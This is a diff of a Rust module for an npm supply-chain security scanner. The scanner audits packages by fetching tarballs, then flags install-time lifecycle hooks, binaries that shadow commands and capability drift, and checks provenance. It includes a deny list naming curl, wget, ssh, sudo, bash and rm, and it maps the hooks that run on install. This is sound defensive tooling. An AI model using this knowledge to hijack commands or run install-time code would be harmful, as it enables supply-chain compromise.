@@ -1,18 +1,42 @@
 use anyhow::{anyhow, Result};
 use colored::*;
+use indicatif::ProgressBar;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
-use std::collections::{HashMap, HashSet};
+use std::collections::{BTreeMap, BTreeSet, HashSet};
 use std::fmt::Write as FmtWrite;
 use std::fs;
+use std::io::Read;
 use std::path::{Path, PathBuf};
-use std::process::Command;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Mutex, OnceLock};
 
+use crate::advisories::{AdvisoryDatabase, AdvisoryMatch};
+use crate::artifacts;
 use crate::ast_security_analyzer;
-
-#[derive(Debug, Serialize, Deserialize)]
+use crate::audit_cache::AuditCache;
+use crate::baseline::KnownFindings;
+use crate::build_sandbox::BuildFindings;
+use crate::capabilities::{self, builds_native_addon, Capability, CapabilityDrift};
+use crate::deobfuscation::REVEALED_MARKER;
+use crate::dependency_graph::DependencyGraph;
+use crate::entropy;
+use crate::lockfile::{self, LockedDependency, LockedPackage, LockfileGraph};
+use crate::module_graph::{self, ModuleGraph};
+use crate::package_manager::split_package_spec;
+use crate::provenance::{self, ProvenanceReport, RegistryKeys, VerificationStatus};
+use crate::registry_metadata::{self, MetadataSignal};
+use crate::tarball;
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct PackageAudit {
     pub package_name: String,
+    /// Exact version that was audited, when known
+    #[serde(default)]
+    pub version: Option<String>,
+    /// License declared in package.json (SPDX expression when possible)
+    #[serde(default)]
+    pub license: Option<String>,
     pub has_scripts: bool,
     pub preinstall: Option<String>,
     pub install: Option<String>,
@@ -24,6 +48,77 @@ pub struct PackageAudit {
     pub dev_dependencies: Vec<String>,
     pub behavioral_chains: Vec<BehavioralChain>,
     pub risk_score: u32,
+    /// What the package's code can do (network, fs-write, child_process...)
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub capabilities: BTreeSet<Capability>,
+    /// Capabilities gained or lost compared to the installed version
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub capability_drift: Option<CapabilityDrift>,
+    /// Every lifecycle hook the package declares, including `prepare` (run
+    /// for git dependencies) and `prepublish`, keyed by hook name
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub lifecycle_scripts: BTreeMap<String, String>,
+    /// Command npm runs on install without a script: `node-gyp rebuild`
+    /// when the package has a binding.gyp
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub implicit_install: Option<String>,
+    /// `bin` entries named after common commands (`node`, `git`)
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub shadowed_commands: Vec<String>,
+    /// Publish-metadata signals from the registry packument (new publisher,
+    /// dropped provenance...)
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub metadata_signals: Vec<MetadataSignal>,
+    /// Registry signature and SLSA provenance verification
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub provenance: Option<ProvenanceReport>,
+}
+
+/// Lifecycle hooks npm runs for a dependency, in the order it runs them.
+/// `prepare` and friends run when installing from git. npm 7 dropped the
+/// uninstall hooks, so they never run.
+pub const LIFECYCLE_HOOKS: &[&str] = &[
+    "preinstall",
+    "install",
+    "postinstall",
+    "prepublish",
+    "preprepare",
+    "prepare",
+    "postprepare",
+    "prepack",
+    "postpack",
+    "dependencies",
+];
+
+/// Commands a `bin` entry should never take over
+const SHADOWED_COMMANDS: &[&str] = &[
+    "node", "npm", "npx", "yarn", "pnpm", "corepack", "git", "sh", "bash", "zsh", "env", "ls",
+    "cp", "mv", "rm", "cat", "curl", "wget", "ssh", "scp", "sudo", "python", "python3", "pip",
+    "make", "gcc", "tar", "docker", "kubectl", "code",
+];
+
+impl PackageAudit {
+    /// Lifecycle hooks in the order npm runs them, as (hook, command)
+    pub fn lifecycle_hooks(&self) -> Vec<(&'static str, &str)> {
+        LIFECYCLE_HOOKS
+            .iter()
+            .filter_map(|hook| {
+                let script = match *hook {
+                    "preinstall" => self.preinstall.as_ref(),
+                    "install" => self.install.as_ref(),
+                    "postinstall" => self.postinstall.as_ref(),
+                    hook => self.lifecycle_scripts.get(hook),
+                };
+                script.map(|script| (*hook, script.as_str()))
+            })
+            .collect()
+    }
+
+    /// Commands npm may run on install: declared hooks plus the implicit
+    /// `node-gyp rebuild`
+    pub fn script_count(&self) -> usize {
+        self.lifecycle_hooks().len() + usize::from(self.implicit_install.is_some())
+    }
 }
 
 #[derive(Debug, Serialize, Deserialize)]
@@ -34,7 +129,111 @@ pub struct TransitiveScanResult {
     pub medium_risk_count: usize,
     pub packages_with_scripts: usize,
     pub max_depth_reached: usize,
-    pub package_audits: HashMap<String, PackageAudit>,
+    /// Findings hidden because they are baselined or suppressed
+    #[serde(default)]
+    pub suppressed_findings: usize,
+    /// Known advisories matched by `fnpm scan --advisories`
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub advisories: Vec<AdvisoryMatch>,
+    /// Edges between the scanned packages, for `fnpm why`
+    #[serde(default, skip_serializing_if = "DependencyGraph::is_empty")]
+    pub dependency_graph: DependencyGraph,
+    /// Keyed by package (or `name@version` for lockfile scans), sorted so
+    /// exported reports are stable between runs
+    pub package_audits: BTreeMap<String, PackageAudit>,
+}
+
+/// Outcome of auditing one package during a scan, plus the dependencies to
+/// visit next (each keyed the same way as `TransitiveScanResult.package_audits`).
+type ScanStep<T> = (Result<PackageAudit>, Vec<(String, T)>);
+
+/// Raise a finding in a file a lifecycle hook runs: it executes on every
+/// install, before anyone imports the package
+fn elevate(issue: &mut SourceCodeIssue, hook: &str) {
+    issue.severity = match issue.severity {
+        IssueSeverity::Info => IssueSeverity::Warning,
+        _ => IssueSeverity::Critical,
+    };
+    issue
+        .description
+        .push_str(&format!(" (install-time entry point: {})", hook));
+}
+
+/// Command names a package's `bin` field installs; a string `bin` is
+/// named after the package
+fn bin_names(json: &Value, package_name: &str) -> Vec<String> {
+    match json.get("bin") {
+        Some(Value::Object(bins)) => bins.keys().cloned().collect(),
+        Some(Value::String(_)) => {
+            let name = json
+                .get("name")
+                .and_then(|v| v.as_str())
+                .unwrap_or(package_name);
+            let (name, _) = split_package_spec(name);
+            vec![name.rsplit('/').next().unwrap_or(&name).to_string()]
+        }
+        _ => Vec::new(),
+    }
+}
+
+/// License from package.json: `license` as a string or `{ "type": ... }`,
+/// or the legacy `licenses` array joined into an `OR` expression.
+fn declared_license(json: &Value) -> Option<String> {
+    let name = |value: &Value| {
+        value
+            .as_str()
+            .or_else(|| value.get("type").and_then(|t| t.as_str()))
+            .map(|s| s.trim().to_string())
+            .filter(|s| !s.is_empty())
+    };
+    if let Some(license) = json.get("license").and_then(name) {
+        return Some(license);
+    }
+    let licenses: Vec<String> = json
+        .get("licenses")?
+        .as_array()?
+        .iter()
+        .filter_map(name)
+        .collect();
+    match licenses.len() {
+        0 => None,
+        1 => licenses.into_iter().next(),
+        _ => Some(format!("({})", licenses.join(" OR "))),
+    }
+}
+
+/// Run `f` over `items` on up to `concurrency` threads. Results come back in
+/// the same order as `items`, however the work was scheduled.
+fn parallel_map<T, R, F>(items: &[T], concurrency: usize, f: F) -> Vec<R>
+where
+    T: Sync,
+    R: Send,
+    F: Fn(&T) -> R + Sync,
+{
+    let workers = concurrency.clamp(1, items.len().max(1));
+    if workers == 1 {
+        return items.iter().map(f).collect();
+    }
+
+    let next = AtomicUsize::new(0);
+    let slots: Vec<Mutex<Option<R>>> = items.iter().map(|_| Mutex::new(None)).collect();
+    std::thread::scope(|scope| {
+        for _ in 0..workers {
+            scope.spawn(|| loop {
+                let index = next.fetch_add(1, Ordering::Relaxed);
+                let Some(item) = items.get(index) else {
+                    break;
+                };
+                let output = f(item);
+                *slots[index].lock().unwrap() = Some(output);
+            });
+        }
+    });
+
+    slots
+        .into_iter()
+        .map(|slot| slot.into_inner().unwrap().expect("every item is processed"))
+        .collect()
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -45,6 +244,17 @@ pub struct SourceCodeIssue {
     pub description: String,
     pub severity: IssueSeverity,
     pub code_snippet: Option<String>,
+    /// Source→sink path for findings confirmed by taint tracking
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub data_flow: Vec<DataFlowStep>,
+}
+
+/// One hop of tainted data on its way from a source to a sink
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct DataFlowStep {
+    pub line_number: usize,
+    pub code: String,
+    pub description: String,
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -54,6 +264,10 @@ pub struct BehavioralChain {
     pub evidence: Vec<String>,
     pub severity: IssueSeverity,
     pub risk_score: u32,
+    /// Entry point the chain is reachable from, for chains traced across a
+    /// package's modules
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub entry_point: Option<String>,
 }
 
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -73,17 +287,24 @@ pub enum IssueSeverity {
     Critical,
 }
 
-#[derive(Debug, PartialEq, Serialize, Deserialize)]
+/// Ordered from least to most severe
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
 pub enum RiskLevel {
+    #[default]
+    #[serde(alias = "safe")]
     Safe,
+    #[serde(alias = "low")]
     Low,
+    #[serde(alias = "medium")]
     Medium,
+    #[serde(alias = "high")]
     High,
+    #[serde(alias = "critical")]
     Critical,
 }
 
 impl RiskLevel {
-    fn color(&self) -> String {
+    pub fn color(&self) -> String {
         match self {
             RiskLevel::Safe => "✓ SAFE".green().bold().to_string(),
             RiskLevel::Low => "⚠ LOW".yellow().to_string(),
@@ -96,11 +317,17 @@ impl RiskLevel {
 
 pub struct SecurityScanner {
     temp_dir: PathBuf,
-    package_manager: String,
+    registry: String,
+    concurrency: usize,
+    audit_cache: Option<AuditCache>,
+    /// Registry signing keys, fetched on first use
+    registry_keys: OnceLock<Option<RegistryKeys>>,
 }
 
 impl SecurityScanner {
-    pub fn new(package_manager: String) -> Result<Self> {
+    /// Packages are fetched straight from the registry, so the scanner works
+    /// the same whatever package manager the project uses.
+    pub fn new() -> Result<Self> {
         // Cleanup old audit directories first (older than 1 hour)
         Self::cleanup_old_audits();
 
@@ -109,10 +336,59 @@ impl SecurityScanner {
 
         Ok(Self {
             temp_dir,
-            package_manager,
+            registry: tarball::registry_url(),
+            concurrency: 1,
+            audit_cache: None,
+            registry_keys: OnceLock::new(),
         })
     }
 
+    /// Reuse (and record) audits of tarballs with a known integrity hash
+    pub fn with_audit_cache(mut self, cache: AuditCache) -> Self {
+        self.audit_cache = Some(cache);
+        self
+    }
+
+    fn cached_audit(
+        &self,
+        name: &str,
+        version: &str,
+        integrity: Option<&str>,
+    ) -> Option<PackageAudit> {
+        self.audit_cache.as_ref()?.get(name, version, integrity?)
+    }
+
+    fn store_audit(
+        &self,
+        name: &str,
+        version: &str,
+        integrity: Option<&str>,
+        audit: &PackageAudit,
+    ) {
+        if let (Some(cache), Some(integrity)) = (&self.audit_cache, integrity) {
+            // A cache that can't be written only costs a re-scan next time
+            let _ = cache.put(name, version, integrity, audit);
+        }
+    }
+
+    /// Audit up to `concurrency` packages at a time during transitive scans
+    pub fn with_concurrency(mut self, concurrency: usize) -> Self {
+        self.concurrency = concurrency.max(1);
+        self
+    }
+
+    /// Use a different registry than the one configured in the environment
+    pub fn with_registry(mut self, registry: impl Into<String>) -> Self {
+        self.registry = registry.into();
+        self
+    }
+
+    fn registry_keys(&self) -> Option<&RegistryKeys> {
+        self.registry_keys
+            .get_or_init(|| RegistryKeys::fetch(&self.registry).ok())
+            .as_ref()
+    }
+
     /// Cleanup old audit directories that weren't properly removed
     fn cleanup_old_audits() {
         use std::time::{SystemTime, UNIX_EPOCH};
@@ -146,42 +422,12 @@ impl SecurityScanner {
     pub fn audit_package(&self, package: &str) -> Result<PackageAudit> {
         println!("{}", "🔍 Auditing package security...".cyan().bold());
 
-        // Install package in temp directory with --ignore-scripts
-        let install_result = self.install_in_sandbox(package);
-
-        // If install fails, cleanup and return error
-        if let Err(e) = install_result {
+        // Download and unpack the tarball; nothing from the package is executed
+        let audit = self.audit_from_registry(package, true);
+        if audit.is_err() {
             self.cleanup();
-            return Err(e);
-        }
-
-        // Find and analyze the package.json
-        let package_json_path = match self.find_package_json(package) {
-            Ok(path) => path,
-            Err(e) => {
-                self.cleanup();
-                return Err(e);
-            }
-        };
-
-        let mut audit = match self.analyze_package_json(&package_json_path, package) {
-            Ok(audit) => audit,
-            Err(e) => {
-                self.cleanup();
-                return Err(e);
-            }
-        };
-
-        // Scan JavaScript source code
-        println!("{}", "   Scanning source code...".cyan());
-        if let Some(package_dir) = package_json_path.parent() {
-            self.scan_source_code(package_dir, &mut audit);
         }
-
-        // Recalculate risk level including source code issues and behavioral chains
-        self.calculate_and_assign_risk(&mut audit);
-
-        Ok(audit)
+        audit
     }
 
     /// Explicitly cleanup temp directory
@@ -189,52 +435,75 @@ impl SecurityScanner {
         let _ = fs::remove_dir_all(&self.temp_dir);
     }
 
-    fn install_in_sandbox(&self, package: &str) -> Result<()> {
-        self.install_in_sandbox_impl(package, true)
-    }
-
-    fn install_in_sandbox_quiet(&self, package: &str) -> Result<()> {
-        self.install_in_sandbox_impl(package, false)
-    }
+    /// Resolve `package` against the registry, verify the tarball's integrity,
+    /// unpack it inside the sandbox and audit it. A cached audit of the same
+    /// tarball is returned without downloading anything.
+    fn audit_from_registry(&self, package: &str, verbose: bool) -> Result<PackageAudit> {
+        let (name, range) = split_package_spec(package);
+        let packument = tarball::fetch_packument(&self.registry, &name)?;
+        let resolved = tarball::resolve_in_packument(&packument, &name, &range)?;
+        let integrity = resolved.integrity.as_deref();
+
+        if let Some(mut audit) = self.cached_audit(&resolved.name, &resolved.version, integrity) {
+            if verbose {
+                println!(
+                    "   Using cached audit of {}@{}",
+                    resolved.name.bright_white(),
+                    resolved.version
+                );
+            }
+            audit.package_name = package.to_string();
+            self.check_registry_metadata(&mut audit, &packument, &resolved);
+            return Ok(audit);
+        }
 
-    fn install_in_sandbox_impl(&self, package: &str, verbose: bool) -> Result<()> {
         if verbose {
-            println!("   Installing {} in sandbox...", package.bright_white());
+            println!("   Downloading {} tarball...", package.bright_white());
         }
-
-        // Create a minimal package.json in sandbox to prevent npm from looking in parent dirs
-        let package_json = self.temp_dir.join("package.json");
-        fs::write(
-            &package_json,
-            r#"{"name":"fnpm-sandbox","version":"1.0.0","private":true}"#,
+        let dir = tarball::fetch_package(
+            &resolved.name,
+            &resolved.version,
+            &resolved.tarball,
+            integrity,
+            &self.temp_dir.join("packages"),
         )?;
+        let package_json_path = dir.join("package.json");
+        if !package_json_path.exists() {
+            return Err(anyhow!("Could not find package.json for {}", package));
+        }
 
-        let status = match self.package_manager.as_str() {
-            "npm" => Command::new("npm")
-                .args(["install", package, "--ignore-scripts", "--no-save"])
-                .current_dir(&self.temp_dir) // Execute in sandbox directory
-                .output()?,
-            "pnpm" => Command::new("pnpm")
-                .args(["add", package, "--ignore-scripts"])
-                .current_dir(&self.temp_dir)
-                .output()?,
-            "yarn" => Command::new("yarn")
-                .args(["add", package, "--ignore-scripts"])
-                .current_dir(&self.temp_dir)
-                .output()?,
-            "bun" => Command::new("bun")
-                .args(["add", package, "--ignore-scripts"])
-                .current_dir(&self.temp_dir)
-                .output()?,
-            _ => return Err(anyhow!("Unsupported package manager for audit")),
-        };
+        let mut audit = self.analyze_package_json(&package_json_path, package)?;
 
-        if !status.status.success() {
-            let stderr = String::from_utf8_lossy(&status.stderr);
-            return Err(anyhow!("Failed to install package in sandbox: {}", stderr));
+        // Scan JavaScript source code
+        if verbose {
+            println!("{}", "   Scanning source code...".cyan());
         }
+        self.scan_source_code(&dir, &mut audit);
 
-        Ok(())
+        // Also recalculates the risk level including source code issues,
+        // behavioral chains and registry metadata
+        self.check_registry_metadata(&mut audit, &packument, &resolved);
+
+        self.store_audit(&resolved.name, &resolved.version, integrity, &audit);
+        Ok(audit)
+    }
+
+    /// Derive metadata signals and check signatures and provenance from the
+    /// packument just fetched; they are never taken from the audit cache
+    fn check_registry_metadata(
+        &self,
+        audit: &mut PackageAudit,
+        packument: &Value,
+        resolved: &tarball::ResolvedPackage,
+    ) {
+        audit.metadata_signals = registry_metadata::analyze(packument, &resolved.version);
+        audit.provenance = Some(provenance::verify(
+            self.registry_keys(),
+            packument,
+            &resolved.name,
+            &resolved.version,
+        ));
+        self.calculate_and_assign_risk(audit);
     }
 
     /// Build the path for an installed package, handling scoped names
@@ -289,51 +558,170 @@ impl SecurityScanner {
         Ok(audit)
     }
 
-    fn find_package_json(&self, package: &str) -> Result<PathBuf> {
-        // Clean package name (remove version specifiers)
-        let clean_name = package.split('@').next().unwrap_or(package);
-        let clean_name = clean_name.split('/').next_back().unwrap_or(clean_name);
-
-        // Try different possible locations
-        let possible_paths = vec![
-            self.temp_dir
-                .join("node_modules")
-                .join(package)
-                .join("package.json"),
-            self.temp_dir
-                .join("node_modules")
-                .join(clean_name)
-                .join("package.json"),
-        ];
+    /// Audit a package exactly as a lockfile pins it: the tarball at its
+    /// `resolved` URL, verified against its `integrity`. A node_modules copy
+    /// with the same version string is not trusted, since it may have been
+    /// tampered with or installed from another registry.
+    pub fn audit_locked_package(&self, package: &LockedPackage) -> Result<PackageAudit> {
+        let integrity = package.integrity.as_deref();
+        if let Some(audit) = self.cached_audit(&package.name, &package.version, integrity) {
+            return Ok(audit);
+        }
 
-        for path in possible_paths {
-            if path.exists() {
-                return Ok(path);
-            }
+        let dir = tarball::fetch_package(
+            &package.name,
+            &package.version,
+            &package.tarball_url(),
+            integrity,
+            &self.temp_dir.join("tarballs"),
+        )?;
+        let mut audit = self.audit_installed_package(&package.name, &dir)?;
+        audit.version = Some(package.version.clone());
+        self.store_audit(&package.name, &package.version, integrity, &audit);
+        Ok(audit)
+    }
+
+    /// Fetch and audit pinned versions on the worker pool. Results come
+    /// back in the same order as `packages`.
+    pub fn audit_locked_packages(&self, packages: &[&LockedPackage]) -> Vec<Result<PackageAudit>> {
+        parallel_map(packages, self.concurrency, |package| {
+            self.audit_locked_package(package)
+        })
+    }
+
+    /// Audit `(name, directory)` pairs already on disk on the worker pool.
+    /// Results come back in the same order as `packages`.
+    pub fn audit_installed_packages(
+        &self,
+        packages: &[(String, PathBuf)],
+    ) -> Vec<Result<PackageAudit>> {
+        parallel_map(packages, self.concurrency, |(name, dir)| {
+            self.audit_installed_package(name, dir)
+        })
+    }
+
+    fn installed_version(package_dir: &Path) -> Option<String> {
+        fs::read_to_string(package_dir.join("package.json"))
+            .ok()
+            .and_then(|content| serde_json::from_str::<Value>(&content).ok())
+            .and_then(|json| json["version"].as_str().map(String::from))
+    }
+
+    /// Compare `audit`, a version about to be installed, with the copy in
+    /// the project's node_modules. Records what it gained or lost and
+    /// re-assesses its risk.
+    pub fn check_capability_drift(&self, audit: &mut PackageAudit) {
+        self.check_capability_drift_in(audit, Path::new("node_modules"));
+    }
+
+    fn check_capability_drift_in(&self, audit: &mut PackageAudit, node_modules: &Path) {
+        let (name, _) = split_package_spec(&audit.package_name);
+        let installed = Self::package_path(node_modules, &name);
+        let (Some(from_version), Some(to_version)) =
+            (Self::installed_version(&installed), audit.version.clone())
+        else {
+            return;
+        };
+        if from_version == to_version {
+            return;
         }
+        let Ok(current) = self.audit_installed_package(&name, &installed) else {
+            return;
+        };
 
-        // Fallback: search in node_modules
-        let node_modules = self.temp_dir.join("node_modules");
-        if node_modules.exists() {
-            for entry in fs::read_dir(node_modules)? {
-                let entry = entry?;
-                if entry.file_type()?.is_dir() {
-                    let pkg_json = entry.path().join("package.json");
-                    if pkg_json.exists() {
-                        let content = fs::read_to_string(&pkg_json)?;
-                        if let Ok(json) = serde_json::from_str::<Value>(&content) {
-                            if let Some(name) = json.get("name").and_then(|n| n.as_str()) {
-                                if name == package || name == clean_name {
-                                    return Ok(pkg_json);
-                                }
-                            }
-                        }
-                    }
-                }
+        audit.capability_drift = CapabilityDrift::between(
+            &from_version,
+            &current.capabilities,
+            &to_version,
+            &audit.capabilities,
+        );
+        self.calculate_and_assign_risk(audit);
+    }
+
+    /// `check_capability_drift` for the package a transitive scan started from
+    pub fn check_capability_drift_in_result(
+        &self,
+        result: &mut TransitiveScanResult,
+        package: &str,
+    ) {
+        if let Some(audit) = result.package_audits.get_mut(package) {
+            self.check_capability_drift(audit);
+            Self::recount_risk(result);
+        }
+    }
+
+    /// Verify registry signatures and provenance of every audited version
+    /// that hasn't been checked yet (installed and lockfile scans)
+    pub fn verify_provenance_in_result(&self, result: &mut TransitiveScanResult) {
+        let pending: Vec<(String, String, String)> = result
+            .package_audits
+            .iter()
+            .filter(|(_, audit)| audit.provenance.is_none())
+            .filter_map(|(key, audit)| {
+                let (name, _) = split_package_spec(&audit.package_name);
+                Some((key.clone(), name, audit.version.clone()?))
+            })
+            .collect();
+        if pending.is_empty() {
+            return;
+        }
+        println!(
+            "{}",
+            "🔏 Verifying registry signatures and provenance...".cyan()
+        );
+
+        let reports = parallel_map(&pending, self.concurrency, |(_, name, version)| {
+            tarball::fetch_packument(&self.registry, name)
+                .ok()
+                .map(|packument| {
+                    provenance::verify(self.registry_keys(), &packument, name, version)
+                })
+        });
+        for ((key, _, _), report) in pending.iter().zip(reports) {
+            if let (Some(audit), Some(report)) = (result.package_audits.get_mut(key), report) {
+                audit.provenance = Some(report);
+                self.calculate_and_assign_risk(audit);
             }
         }
+        Self::recount_risk(result);
+    }
+
+    /// Match every audited version against the offline advisory bundle
+    pub fn match_advisories_in_result(
+        result: &mut TransitiveScanResult,
+        database: &AdvisoryDatabase,
+    ) {
+        let mut matches: Vec<AdvisoryMatch> = result
+            .package_audits
+            .values()
+            .filter_map(|audit| {
+                let (name, _) = split_package_spec(&audit.package_name);
+                Some(database.check(&name, audit.version.as_deref()?))
+            })
+            .flatten()
+            .collect();
+        matches
+            .sort_by(|a, b| (&a.package, &a.version, &a.id).cmp(&(&b.package, &b.version, &b.id)));
+        matches.dedup();
+        result.advisories = matches;
+    }
+
+    /// Audit the version `fnpm update` would move `name` to, if it is
+    /// installed and `spec` resolves to a different version.
+    pub fn audit_update(&self, name: &str, spec: &str) -> Result<Option<PackageAudit>> {
+        let installed = Self::package_path(Path::new("node_modules"), name);
+        let Some(current) = Self::installed_version(&installed) else {
+            return Ok(None);
+        };
+        let resolved = tarball::resolve_package(&self.registry, &format!("{}@{}", name, spec))?;
+        if resolved.version == current {
+            return Ok(None);
+        }
 
-        Err(anyhow!("Could not find package.json for {}", package))
+        let mut audit =
+            self.audit_from_registry(&format!("{}@{}", name, resolved.version), false)?;
+        self.check_capability_drift(&mut audit);
+        Ok(Some(audit))
     }
 
     pub fn analyze_package_json(&self, path: &Path, package_name: &str) -> Result<PackageAudit> {
@@ -356,64 +744,114 @@ impl SecurityScanner {
 
         let mut audit = PackageAudit {
             package_name: package_name.to_string(),
+            version: json
+                .get("version")
+                .and_then(|v| v.as_str())
+                .map(String::from),
+            license: declared_license(&json),
             has_scripts: scripts.is_some(),
-            preinstall: None,
-            install: None,
-            postinstall: None,
-            suspicious_patterns: Vec::new(),
-            source_code_issues: Vec::new(),
-            risk_level: RiskLevel::Safe,
             dependencies,
             dev_dependencies,
-            behavioral_chains: Vec::new(),
-            risk_score: 0,
+            ..Default::default()
         };
 
         if let Some(scripts_obj) = scripts.and_then(|s| s.as_object()) {
             // Extract lifecycle scripts
-            let preinstall = scripts_obj
-                .get("preinstall")
-                .and_then(|v| v.as_str())
-                .map(String::from);
-            let install = scripts_obj
-                .get("install")
-                .and_then(|v| v.as_str())
-                .map(String::from);
-            let postinstall = scripts_obj
-                .get("postinstall")
-                .and_then(|v| v.as_str())
-                .map(String::from);
+            for hook in LIFECYCLE_HOOKS {
+                if let Some(script) = scripts_obj.get(*hook).and_then(|v| v.as_str()) {
+                    audit
+                        .lifecycle_scripts
+                        .insert(hook.to_string(), script.to_string());
+                }
+            }
+            audit.preinstall = audit.lifecycle_scripts.get("preinstall").cloned();
+            audit.install = audit.lifecycle_scripts.get("install").cloned();
+            audit.postinstall = audit.lifecycle_scripts.get("postinstall").cloned();
+        }
 
-            audit.preinstall = preinstall.clone();
-            audit.install = install.clone();
-            audit.postinstall = postinstall.clone();
+        // npm runs `node-gyp rebuild` for a binding.gyp unless the package
+        // brings its own install hooks
+        let has_binding_gyp = path
+            .parent()
+            .is_some_and(|dir| dir.join("binding.gyp").is_file());
+        if has_binding_gyp && audit.install.is_none() && audit.preinstall.is_none() {
+            audit.implicit_install = Some("node-gyp rebuild".to_string());
+            audit.has_scripts = true;
+        }
 
-            // Check for suspicious patterns
-            let all_scripts: Vec<String> = vec![
-                preinstall.unwrap_or_default(),
-                install.unwrap_or_default(),
-                postinstall.unwrap_or_default(),
-            ];
+        audit.shadowed_commands = bin_names(&json, package_name)
+            .into_iter()
+            .filter(|name| SHADOWED_COMMANDS.contains(&name.as_str()))
+            .collect();
 
-            for script in &all_scripts {
-                self.check_suspicious_patterns(script, &mut audit);
-            }
+        // Check for suspicious patterns
+        let all_scripts: Vec<String> = audit
+            .lifecycle_hooks()
+            .into_iter()
+            .map(|(_, script)| script.to_string())
+            .collect();
+        for script in &all_scripts {
+            self.check_suspicious_patterns(script, &mut audit);
+        }
+        for name in audit.shadowed_commands.clone() {
+            audit.suspicious_patterns.push(format!(
+                "bin '{}': Shadows the {} command for every npm script in the project",
+                name, name
+            ));
+        }
 
-            // Detect behavioral chains from scripts
-            self.detect_behavioral_chains(&mut audit);
+        // Detect behavioral chains from scripts
+        self.detect_behavioral_chains(&mut audit);
 
-            // Calculate risk level
-            self.calculate_and_assign_risk(&mut audit);
-        }
+        // Calculate risk level
+        self.calculate_and_assign_risk(&mut audit);
 
         Ok(audit)
     }
 
-    /// Scan JavaScript source files for malicious patterns
+    /// Scan JavaScript sources and the package's other files for malicious patterns
     fn scan_source_code(&self, package_dir: &Path, audit: &mut PackageAudit) {
+        // Chains the lifecycle scripts form on their own, found with the manifest
+        let script_chains = std::mem::take(&mut audit.behavioral_chains);
+        // Lifecycle scripts, to spot the package files they run
+        let lifecycle: Vec<(&str, String)> = audit
+            .lifecycle_hooks()
+            .into_iter()
+            .map(|(hook, script)| (hook, script.to_string()))
+            .collect();
+        let scripts: Vec<(&str, &str)> = lifecycle
+            .iter()
+            .map(|(name, script)| (*name, script.as_str()))
+            .collect();
+        // `node scripts/setup.js` makes setup.js an install-time entry point
+        let install_entry_points: BTreeMap<String, &str> = scripts
+            .iter()
+            .flat_map(|(hook, script)| {
+                module_graph::script_targets(script).filter_map(move |target| {
+                    module_graph::resolve(package_dir, package_dir, target)
+                        .map(|module| (module, *hook))
+                })
+            })
+            .collect();
+
         // Find all JavaScript files
         if let Ok(entries) = self.walk_directory(package_dir) {
             for file_path in entries {
+                let relative_path = file_path
+                    .strip_prefix(package_dir)
+                    .unwrap_or(&file_path)
+                    .to_string_lossy()
+                    .replace('\\', "/");
+                // Prebuilt binaries and node-gyp projects are native addons
+                if file_path.extension().is_some_and(|ext| ext == "node")
+                    || file_path
+                        .file_name()
+                        .is_some_and(|name| name == "binding.gyp")
+                {
+                    audit.capabilities.insert(Capability::NativeAddon);
+                }
+                // Whether the AST pass already checked string literals for blobs
+                let mut literals_checked = false;
                 if let Some(ext) = file_path.extension() {
                     let ext_str = ext.to_str().unwrap_or("");
                     if ext_str == "js"
@@ -423,10 +861,16 @@ impl SecurityScanner {
                         || ext_str == "tsx"
                     {
                         // Try AST analysis first
-                        match ast_security_analyzer::analyze_js_file(&file_path) {
-                            Ok(ast_issues) => {
+                        match ast_security_analyzer::analyze_js_file_with_capabilities(&file_path) {
+                            Ok(analysis) => {
                                 // AST analysis succeeded, use those results (even if empty)
-                                audit.source_code_issues.extend(ast_issues);
+                                literals_checked = analysis.parsed;
+                                let mut issues = analysis.issues;
+                                if let Some(hook) = install_entry_points.get(&relative_path) {
+                                    issues.iter_mut().for_each(|issue| elevate(issue, hook));
+                                }
+                                audit.source_code_issues.extend(issues);
+                                audit.capabilities.extend(analysis.capabilities);
                             }
                             Err(_) => {
                                 // AST failed (syntax error, minified, etc.), fall back to regex
@@ -437,8 +881,61 @@ impl SecurityScanner {
                         }
                     }
                 }
+
+                // Encoded blobs, embedded archives and packed files, in any file
+                let small_enough = fs::metadata(&file_path)
+                    .is_ok_and(|meta| meta.len() <= entropy::MAX_FILE_BYTES);
+                let content = if small_enough {
+                    fs::read(&file_path).ok()
+                } else {
+                    Self::read_head(&file_path)
+                };
+                let Some(content) = content else {
+                    continue;
+                };
+                if small_enough {
+                    audit.source_code_issues.extend(entropy::scan_file(
+                        &file_path.to_string_lossy(),
+                        &content,
+                        literals_checked,
+                    ));
+                }
+
+                // Scripts, executables, addons and WASM the AST pass never sees
+                audit.source_code_issues.extend(artifacts::scan_file(
+                    &file_path,
+                    &relative_path,
+                    &content,
+                    &scripts,
+                ));
             }
         }
+
+        if audit.implicit_install.is_some()
+            || scripts
+                .iter()
+                .any(|(_, script)| builds_native_addon(script))
+        {
+            audit.capabilities.insert(Capability::NativeAddon);
+        }
+
+        // Code only forms a chain when an entry point reaches it, so
+        // findings scattered over unreachable files don't add up to one
+        audit.behavioral_chains = script_chains;
+        audit
+            .behavioral_chains
+            .extend(ModuleGraph::build(package_dir).behavioral_chains());
+    }
+
+    /// Enough of a file too large to scan to tell what kind it is
+    fn read_head(path: &Path) -> Option<Vec<u8>> {
+        let mut head = Vec::new();
+        fs::File::open(path)
+            .ok()?
+            .take(4096)
+            .read_to_end(&mut head)
+            .ok()?;
+        Some(head)
     }
 
     /// Recursively walk directory to find all files
@@ -693,16 +1190,12 @@ impl SecurityScanner {
     /// Detect behavioral attack chains based on pattern combinations
